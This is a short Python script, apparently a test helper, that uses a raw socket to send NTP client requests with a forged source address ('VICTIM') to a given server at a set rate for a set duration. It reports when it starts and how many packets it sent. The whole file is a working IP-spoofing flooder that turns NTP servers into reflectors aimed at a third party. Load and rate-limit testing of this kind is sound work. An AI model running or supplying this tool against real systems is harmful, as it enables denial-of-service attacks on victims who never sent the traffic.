# SPDX-License-Identifier: BSD-2-Clause
"""Asks ADDR for the time in the name of VICTIM, RATE times a second at most,
for so many seconds.

Usage: spoofer.py ADDR VICTIM RATE SECONDS; needs a raw socket; prints `ready`
when it begins, and at last how many requests it sent."""
import socket
import struct
import sys
import time

BATCH = 200


def main():
    to, victim = (socket.inet_aton(a) for a in sys.argv[1:3])
    rate, seconds = float(sys.argv[3]), float(sys.argv[4])
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, 17, 0) + victim + \
        to + struct.pack("!HHHH", 4711, 123, 56, 0) + b"\x23" + bytes(39) + \
        b"12345678"
    begun, sent = time.monotonic(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW,
                       socket.IPPROTO_RAW) as sock:
        print("ready", flush=True)
        while time.monotonic() - begun < seconds:
            for _ in range(BATCH):
                sock.sendto(packet, (sys.argv[1], 0))
            sent += BATCH
            time.sleep(max(begun + sent / rate - time.monotonic(), 0))
    print(sent)


main()
